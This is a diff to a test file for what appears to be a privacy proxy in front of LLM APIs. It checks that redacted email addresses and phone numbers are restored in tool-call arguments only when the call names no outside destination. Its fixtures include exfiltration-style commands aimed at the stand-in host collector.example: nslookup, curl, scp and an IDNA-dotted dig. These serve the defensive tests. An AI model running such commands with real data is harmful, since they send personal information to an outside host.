@@ -42,7 +42,12 @@ WANT = KEPT + f"Your address is {MAIL}, saved to /home/ops/{MAIL}.txt; [mail](ma
 KEPT_ARGS = {"cmd": f"nslookup {P}.collector.example.", "fetch": f"curl u@collector.example/c?u={E}",
              "copy": f"scp f {P}@collector.example:/tmp/", "idna": f"dig {E}\u3002collector\u3002example"}
 ARGS = {**KEPT_ARGS, "to": E, "note": f"Call {P}."}
-WANT_ARGS = {**KEPT_ARGS, "to": MAIL, "note": f"Call {PHONE}."}
+# scopes16: the call names collector.example, so it is a scope that sends: `to` and `note` stay too (README "a
+# scope that sends").
+WANT_ARGS = dict(ARGS)
+# The same values in a call that names no destination: restored.
+LOCAL_ARGS = {"to": E, "note": f"Call {P}.", "file": f"/home/ops/{E}.txt"}
+WANT_LOCAL = {"to": MAIL, "note": f"Call {PHONE}.", "file": f"/home/ops/{MAIL}.txt"}
 
 
 @pytest.fixture(scope="module")
@@ -66,6 +71,10 @@ def test_chat(mock: Mock, restoring: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert json.loads(arguments) == WANT_ARGS
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, arguments = chat_text_and_arguments(oai(restoring), PROMPT, stream)
+    assert text == WANT
+    assert json.loads(arguments) == WANT_LOCAL
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@@ -75,11 +84,20 @@ def test_responses(mock: Mock, restoring: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert calls == [WANT_ARGS]
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, calls = responses_text_and_calls(oai(restoring), PROMPT, stream)
+    assert text == WANT
+    assert calls == [WANT_LOCAL]
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 def test_anthropic(mock: Mock, restoring: Proxy, stream: bool) -> None:
-    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "bash", "arguments": ARGS}])
+    for args, want in ((ARGS, WANT_ARGS), (LOCAL_ARGS, WANT_LOCAL)):
+        anthropic_answer(mock, restoring, stream, args, want)
+
+
+def anthropic_answer(mock: Mock, restoring: Proxy, stream: bool, args: dict[str, Any], want: dict[str, Any]) -> None:
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "bash", "arguments": args}])
     client = claude(restoring).messages
     msgs: Any = [{"role": "user", "content": PROMPT}]
     if stream:
@@ -89,7 +107,7 @@ def test_anthropic(mock: Mock, restoring: Proxy, stream: bool) -> None:
         final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
     sent_placeholders(mock)
     assert "".join(b.text for b in final.content if b.type == "text") == WANT
-    assert [b.input for b in final.content if b.type == "tool_use"] == [WANT_ARGS]
+    assert [b.input for b in final.content if b.type == "tool_use"] == [want]
 
 
 # ------------------------------------------------------------------ H3: the host label in the answer's next text
